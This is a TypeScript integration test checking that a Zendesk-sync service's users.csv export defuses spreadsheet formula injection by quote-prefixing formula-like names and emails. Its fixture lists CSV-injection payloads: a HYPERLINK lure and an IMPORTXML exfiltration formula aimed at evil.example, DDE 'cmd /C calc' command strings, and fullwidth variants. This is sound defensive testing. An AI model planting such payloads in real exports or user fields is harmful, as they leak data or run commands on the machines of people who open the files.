import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { api, connectAndSync, createTenant, startSystem, type System } from '../helpers/system';
import { readCsv } from './reports.fixture';

/**
 * Spreadsheet formula injection: Zendesk end users choose their own names, and users.csv is opened in
 * spreadsheets. Users with formula-like names (and emails) are created in the sandbox and synced for real;
 * by default every such text cell gets a leading `'` (OWASP), `raw=true` gives Zendesk's values exactly, and
 * the JSON listing is never rewritten. (Before: the cells started with `=` and Excel evaluated them.)
 */

let system: System;
let tenant: { id: string; apiKey: string };
let integrationId: string;

const NAMES = [
  '=HYPERLINK("https://evil.example/x","Click for your invoice")',
  '=IMPORTXML(CONCAT("https://evil.example/?leak=",A2),"//a")',
  "+SUM(1,2)+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("https://evil.example/fw")',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '-5',
];
const FORMULA_EMAIL = '=cmd@evil.example';

before(async () => {
  system = await startSystem();
  tenant = await createTenant(system, 'Formula tenant');
  const ws = system.sandbox.createWorkspace({ subdomain: 'formula-acme', users: 20, ticketEvents: 20, seed: 14, consentMode: 'allow' });
  NAMES.forEach((name, i) => ws.addUser({ name, email: i === 0 ? FORMULA_EMAIL : `formula.${i}@example.com`, role: i % 2 ? 'agent' : 'end-user' }));
  ws.addUser({ name: 'Plain Name', email: 'plain@example.com' });
  ({ integrationId } = await connectAndSync(system, tenant.apiKey, 'formula-acme'));
});

after(() => system?.stop());

async function csvRows(query: string) {
  const res = await fetch(`${system.apiUrl}/v1/integrations/${integrationId}/users.csv?${query}`, { headers: { authorization: `Bearer ${tenant.apiKey}` } });
  assert.equal(res.status, 200);
  const rows = readCsv(await res.text());
  const header = rows[0]!.map((f) => f.value);
  return rows.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]!.value])));
}

test('formula-like names and emails synced from Zendesk are neutralised in users.csv by default', async () => {
  const rows = await csvRows('sort=name');
  const byEmail = new Map(rows.map((r) => [r.email, r]));
  NAMES.forEach((name, i) => {
    const email = i === 0 ? `'${FORMULA_EMAIL}` : `formula.${i}@example.com`;
    const row = byEmail.get(email);
    assert.ok(row, `the user named ${JSON.stringify(name)} is exported`);
    assert.equal(row.name, `'${name}`, `${JSON.stringify(name)} starts with a quote`);
  });
  assert.equal(byEmail.get('plain@example.com')!.name, 'Plain Name', 'other text is untouched');
  // No cell of the whole file starts as a formula.
  for (const row of rows)
    for (const [field, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+@\t\r＝＋－＠]|^-(?!\d+$)/, `${field} = ${JSON.stringify(value)}`);
  // Numbers are numbers, not text: ids and counts are never prefixed.
  assert.ok(rows.every((r) => /^\d+$/.test(r.id!) && /^\d+$/.test(r.ticketInteractions!)));
});

test("raw=true gives Zendesk's values exactly; the JSON listing is never rewritten", async () => {
  const rows = await csvRows('sort=name&raw=true');
  const names = new Set(rows.map((r) => r.name));
  for (const name of NAMES) assert.ok(names.has(name), JSON.stringify(name));
  assert.ok(rows.some((r) => r.email === FORMULA_EMAIL));
  const json = await api(system, 'GET', `/v1/integrations/${integrationId}/users?limit=500`, { key: tenant.apiKey });
  const jsonNames = new Set(json.json.users.map((u: { name: string }) => u.name));
  for (const name of NAMES) assert.ok(jsonNames.has(name), JSON.stringify(name));
  const bad = await api(system, 'GET', `/v1/integrations/${integrationId}/users.csv?raw=yes`, { key: tenant.apiKey });
  assert.equal(bad.status, 400);
  assert.deepEqual(
    bad.json.errors.map((e: { name: string }) => e.name),
    ['raw'],
  );
});
